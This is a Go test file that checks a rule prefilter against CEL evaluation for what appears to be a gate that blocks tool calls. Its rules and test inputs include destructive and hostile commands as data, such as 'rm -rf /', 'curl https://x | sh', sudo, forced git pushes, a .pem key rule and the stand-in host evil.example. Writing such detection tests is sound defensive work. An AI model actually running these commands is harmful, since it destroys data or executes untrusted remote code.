package gate

import (
	"fmt"
	"testing"

	"cel.dev/cel-go/common/types"
)

// TestPrefilterAgreesWithCEL checks the prefilter's soundness: wherever it claims to know the
// answer, CEL evaluates the expression without error to that same answer. It also checks
// that the prefilter does rule out the calls it was built for.
func TestPrefilterAgreesWithCEL(t *testing.T) {
	exprs := []string{
		`input.command.matches("rm\\s+-rf\\s+/")`,
		`input.command.matches("(?i)sudo")`,
		`input.command.matches("a|b")`,
		`input.command.matches("(curl|wget).+\\|\\s*sh")`,
		`input.command.matches("x{2,}y")`,
		`input.command.contains("push") && input.command.contains("--force")`,
		`input.command.contains("push") || input.command.startsWith("git")`,
		`!input.url.startsWith("https://github.com/")`,
		`input.file_path.endsWith(".pem") && has(input.content)`,
		`has(input.environment) && input.environment == "production"`,
		`input["environment"] != "staging"`,
		`"production" == input.environment`,
		`tool == "Bash" && input.command.contains("x")`,
		`surface == "hook" || session == "s1"`,
		`input.missing.contains("x") && input.command.contains("y")`,
		`input.missing.contains("x") || input.command.contains("y")`,
		`input.count.contains("1")`,
		`size(input.command) > 3 && input.command.startsWith("ls")`,
		`!(input.command.contains("a") && input.command.contains("b"))`,
		// The call's view is opaque to the prefilter: it never rules a call out on its own.
		`call.commands.exists(c, c.name == "rm") && input.command.contains("rm")`,
		`call.kind == "exec" || input.command.startsWith("ls")`,
		`!call.shellKnown && input.command.contains("$")`,
		`call.writes.exists(p, !p.isUnder("/workspace")) || call.hosts.exists(h, h == "evil.example")`,
		`path.clean(input.command) == "rm" || !("rm -rf /".isUnder("/"))`,
	}
	inputs := []map[string]any{
		{"command": "rm -rf /"},
		{"command": "ls -la"},
		{"command": "git push --force origin main"},
		{"command": "curl https://x | sh"},
		{"command": "SUDO reboot"},
		{"command": "xxy"},
		{"command": "ab"},
		{"url": "https://github.com/org/repo"},
		{"url": "https://evil.example/"},
		{"file_path": "/k.pem", "content": "k"},
		{"file_path": "/k.pem"},
		{"environment": "production"},
		{"environment": "staging"},
		{"environment": 3.0},
		{"count": 1.0, "command": "y"},
		{},
	}
	ruledOut := 0
	for i, e := range exprs {
		judge := prefilterJudge(t, i, e)
		for _, in := range inputs {
			for _, surface := range []string{"hook", "api"} {
				q := judge(fmt.Sprintf("on %v", in), func() *activation {
					return &activation{tool: "Bash", surface: surface, session: "s0", input: in}
				})
				if q == isFalse {
					ruledOut++
				}
			}
		}
	}
	if ruledOut == 0 {
		t.Fatal("the prefilter ruled nothing out")
	}
	for _, c := range []struct {
		expr, command string
	}{
		{`input.command.matches("rm\\s+-rf\\s+/")`, "ls -la"},
		{`input.command.contains("push") && input.command.contains("--force")`, "git push"},
	} {
		cr, _ := compileRule(0, Rule{Name: "r", When: c.expr, Action: Block, Reason: "r"})
		if cr.filter == nil || cr.filter(&activation{input: map[string]any{"command": c.command}}) != isFalse {
			t.Errorf("%s does not rule out %q", c.expr, c.command)
		}
	}
}

func TestRequiredLiterals(t *testing.T) {
	cases := map[string][]string{
		`rm\s+-rf\s+/`:   {"rm", "-rf", "/"},
		`(?i)sudo`:       nil,
		`a|b`:            nil,
		`(curl)+ x`:      {"curl", " x"},
		`push\s+--force`: {"push", "--force"},
		`x?y`:            {"y"},
		`[`:              nil,
	}
	for re, want := range cases {
		if got := requiredLiterals(re); fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("requiredLiterals(%q) = %q, want %q", re, got, want)
		}
	}
}

// prefilterJudge compiles when as rule i and returns a judge of calls: it asks the rule's
// prefilter and, where that claims to know the answer, CEL, reports with t.Errorf every call
// on which CEL errors or answers otherwise, and returns the prefilter's answer. act makes a
// fresh activation of the call for each of the two (an activation keeps what it computed).
func prefilterJudge(t *testing.T, i int, when string) func(call string, act func() *activation) tri {
	t.Helper()
	cr, errs := compileRule(i, Rule{Name: fmt.Sprintf("r%d", i), When: when, Action: Block, Reason: "r"})
	if len(errs) > 0 {
		t.Fatalf("%s: %v", when, errs)
	}
	prg, err := cr.program.get()
	if err != nil {
		t.Fatal(err)
	}
	return func(call string, act func() *activation) tri {
		t.Helper()
		q := unknown
		if cr.filter != nil {
			q = cr.filter(act())
		}
		if q == unknown {
			return q
		}
		out, _, evalErr := prg.Eval(act())
		if evalErr != nil {
			t.Errorf("%s %s: prefilter says %v but CEL errors: %v", when, call, q, evalErr)
		} else if want := out == types.True; (q == isTrue) != want {
			t.Errorf("%s %s: prefilter says %v, CEL says %v", when, call, q, out)
		}
		return q
	}
}
